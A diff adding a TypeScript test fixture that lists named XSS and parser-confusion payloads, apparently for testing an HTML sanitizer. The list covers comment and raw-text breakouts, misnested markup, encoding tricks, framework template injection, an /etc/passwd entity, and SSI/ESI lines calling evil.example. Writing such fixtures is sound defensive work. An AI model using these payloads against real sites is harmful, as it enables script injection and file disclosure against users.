@@ -1,0 +1,96 @@
+import type { HostilePayload } from './types';
+
+/** Malformed markup, comments, raw text, odd characters, and what other programs read into text. */
+export const parsingPayloads: readonly HostilePayload[] = [
+  { name: 'comment that ends early', html: '<!--><img src=x onerror=window.__xss=1>-->' },
+  { name: 'comment that ends with a bang', html: '<!-- --!><img src=x onerror=window.__xss=1> -->' },
+  { name: 'comment that never ends', html: '<!-- <img src=x onerror=window.__xss=1>' },
+  { name: 'comment of a condition', html: '<!--[if gte IE 4]><script>window.__xss=1</script><![endif]-->' },
+  { name: 'comment that looks like a tag', html: '<!<img src=x onerror=window.__xss=1>//>' },
+  { name: 'comment of a slash', html: '</ img src=x onerror=window.__xss=1><img src=x onerror=window.__xss=1>' },
+  { name: 'comment in an attribute', html: '<p title="<!--"><img title="--><img src=x onerror=window.__xss=1>">' },
+  {
+    name: 'declaration',
+    html: '<!ENTITY x SYSTEM "file:///etc/passwd"><!ATTLIST img onerror CDATA "window.__xss=1"><img src=x>',
+  },
+  { name: 'text area breakout', html: '<textarea></textarea><img src=x onerror=window.__xss=1></textarea>' },
+  {
+    name: 'text area in an attribute',
+    html: '<p id="</textarea><img src=x onerror=window.__xss=1>"><textarea><p id="</textarea><img src=x onerror=window.__xss=1>">',
+  },
+  { name: 'title breakout', html: '<title><p title="</title><img src=x onerror=window.__xss=1>"></title>' },
+  { name: 'xmp breakout', html: '<xmp><p title="</xmp><img src=x onerror=window.__xss=1>"></xmp>' },
+  { name: 'listing breakout', html: '<listing>&lt;img src=x onerror=window.__xss=1&gt;</listing>' },
+  { name: 'plain text that never ends', html: '<plaintext><img src=x onerror=window.__xss=1>' },
+  { name: 'noembed breakout', html: '<noembed><img title="</noembed><img src=x onerror=window.__xss=1>"></noembed>' },
+  {
+    name: 'noframes breakout',
+    html: '<noframes><style></noframes><img src=x onerror=window.__xss=1></style></noframes>',
+  },
+  { name: 'iframe as raw text', html: '<iframe><img title="</iframe><img src=x onerror=window.__xss=1>"></iframe>' },
+  { name: 'unclosed quote', html: '<img title="x><img src=x onerror=window.__xss=1>' },
+  { name: 'unclosed tag', html: '<img src=x onerror=window.__xss=1 ' },
+  { name: 'unclosed tag before another', html: '<img src=x onerror=window.__xss=1 <p>x</p>' },
+  { name: 'tag within a tag', html: '<a title=<img src=x onerror=window.__xss=1>>x</a>' },
+  { name: 'three quotes', html: '<img """><script>window.__xss=1</script>">' },
+  { name: 'quotes that do not match', html: '<img src=\'x" onerror=window.__xss=1>' },
+  { name: 'attribute without a name', html: '<img ="x" src=x onerror=window.__xss=1>' },
+  { name: 'attribute of slashes', html: '<img //////src=x//////onerror=window.__xss=1//////>' },
+  { name: 'attribute of equals signs', html: '<img src==x onerror==window.__xss=1>' },
+  {
+    name: 'misnested formatting',
+    html: '<b><a href="javascript:window.__xss=1"><p></b><i></a><img src=x onerror=window.__xss=1></i>',
+  },
+  {
+    name: 'misnested table',
+    html: '<table><a href="javascript:window.__xss=1"><tr><td></a><img src=x onerror=window.__xss=1>',
+  },
+  { name: 'table text that moves out', html: '<table><tr><img src=x onerror=window.__xss=1><td>x</td></tr></table>' },
+  { name: 'nested links', html: '<a href="https://example.com"><a href="javascript:window.__xss=1">x</a></a>' },
+  {
+    name: 'nested forms',
+    html: '<form><div></form><form action="javascript:window.__xss=1"><button>x</button></form>',
+  },
+  { name: 'two bodies', html: '<body><body onload="window.__xss=1"><frameset onload="window.__xss=1">' },
+  { name: 'head after body', html: '</body><head><script>window.__xss=1</script></head>' },
+  {
+    name: 'paragraph that ends before it begins',
+    html: '</p onclick="window.__xss=1"><br onclick="window.__xss=1"></br onclick="window.__xss=1">',
+  },
+  {
+    name: 'deep nesting around a script',
+    html: '<div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><div><script>window.__xss=1</script><img src=x onerror=window.__xss=1></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div></div>',
+  },
+  {
+    name: 'deep nesting that flattens',
+    html: '<svg><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><b><style><img src=x onerror=window.__xss=1></style>',
+  },
+  { name: 'null bytes everywhere', html: '<\u0000img \u0000src=x \u0000onerror\u0000=window.__xss=1\u0000>' },
+  { name: 'utf-7', html: '+ADw-img src=x onerror=window.__xss=1+AD4-' },
+  { name: 'overlong look-alikes', html: '＜script＞window.__xss=1＜/script＞' },
+  { name: 'look-alike of a tag letter', html: '<ſcript>window.__xss=1</ſcript>' },
+  { name: 'kelvin sign in a handler', html: '<img src=x onclicK="window.__xss=1">' },
+  { name: 'iso-2022-jp escapes', html: '\u001b$B<img src="x" title="\u001b(B onerror=window.__xss=1//">' },
+  { name: 'wrong direction marks', html: '<a href="https://example.com‮//:tpircsavaj">x</a>' },
+  { name: 'line separators', html: '<img src=x\u2028onerror=window.__xss=1>' },
+  { name: 'escaped twice', html: '&amp;lt;img src=x onerror=window.__xss=1&amp;gt;' },
+  { name: 'escaped once', html: '&lt;img src=x onerror=window.__xss=1&gt;' },
+  {
+    name: 'template syntax of frameworks',
+    html: '{{constructor.constructor("window.__xss=1")()}} ${window.__xss=1} <%= window.__xss=1 %>',
+  },
+  {
+    name: 'binding attributes of frameworks',
+    html: '<p v-html="x" @click="window.__xss=1" :onclick="window.__xss=1" ng-click="window.__xss=1" x-on:click="window.__xss=1" hx-on:click="window.__xss=1" data-bind="click: window.__xss=1">x</p>',
+  },
+  {
+    name: 'react data in the page',
+    html: '<p data-reactroot dangerouslysetinnerhtml="{__html: 1}">x</p><!--$--><template id="B:0"></template><!--/$-->',
+  },
+  {
+    name: 'framework data in a script',
+    html: '<script>self.__next_f.push([1,"x"])</script><script>window.__xss=1</script>',
+  },
+  { name: 'data of the boot script', html: '<script data-boot>window.__xss=1</script>' },
+  { name: 'server side include', html: '<!--#exec cmd="/bin/echo x"--><esi:include src="https://evil.example/"/>' },
+];
